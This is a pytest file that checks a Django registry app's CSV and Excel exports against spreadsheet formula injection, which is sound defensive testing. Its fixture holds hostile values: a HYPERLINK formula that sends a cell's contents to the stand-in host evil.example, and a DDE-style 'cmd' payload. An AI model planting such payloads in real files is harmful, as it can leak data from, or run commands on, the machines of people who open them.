"""Audit fault 3: record text that looks like a formula must stay inert text in every export."""

import csv
import io

import openpyxl
import pytest

from khuyencong.jobs.models import Job
from khuyencong.jobs.services import execute
from khuyencong.registry import views
from tests.registry.factories import make_establishment

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&B2,"Chi tiết") EVILMARK',
    "phone": "=1+1",
    "owner_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "+1+2",
    "main_products": "-2+3",
}
LINK = "http://evil.example/landing"


@pytest.fixture
def hostile(territory):
    make_establishment("42", **HOSTILE)
    return make_establishment("42", name=f"{LINK} EVILMARK")


def _xlsx_cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet = book.active
    return sheet, [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]


def _assert_inert_workbook(content: bytes):
    sheet, cells = _xlsx_cells(content)
    values = {cell.value for cell in cells}
    for text in HOSTILE.values():
        assert text in values, text  # the text is kept exactly as typed
    assert f"{LINK} EVILMARK" in values
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
    assert not any(cell.hyperlink for cell in cells)
    assert not sheet._hyperlinks


def test_xlsx_export_writes_formula_like_text_as_text(client_for, agency_officer, hostile):
    response = client_for(agency_officer).get("/establishments/export/", {"format": "xlsx", "q": "evilmark"})
    assert response.status_code == 200
    _assert_inert_workbook(b"".join(response.streaming_content))


def _assert_guarded_csv(text: str):
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    for value in HOSTILE.values():
        assert "'" + value in cells, value
        assert value not in cells
    assert not any(cell[:1] in {"=", "+", "-", "@"} for cell in cells)


def test_streamed_csv_export_guards_formula_starts(client_for, agency_officer, hostile):
    response = client_for(agency_officer).get("/establishments/export/", {"format": "csv", "q": "evilmark"})
    assert response.status_code == 200
    _assert_guarded_csv(b"".join(response.streaming_content).decode("utf-8"))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_background_export_files_are_inert_too(client_for, agency_officer, hostile, monkeypatch, fmt,
                                               django_capture_on_commit_callbacks):  # fmt: skip
    monkeypatch.setattr(views.EstablishmentExportView, "job_threshold", 1)
    with django_capture_on_commit_callbacks(execute=False):
        response = client_for(agency_officer).get("/establishments/export/", {"format": fmt, "q": "evilmark"})
    assert response.status_code == 302
    job = Job.objects.get()
    execute(str(job.pk))
    job.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED, job.error
    content = job.result_file.open("rb").read()
    if fmt == "csv":
        _assert_guarded_csv(content.decode("utf-8-sig"))
    else:
        _assert_inert_workbook(content)
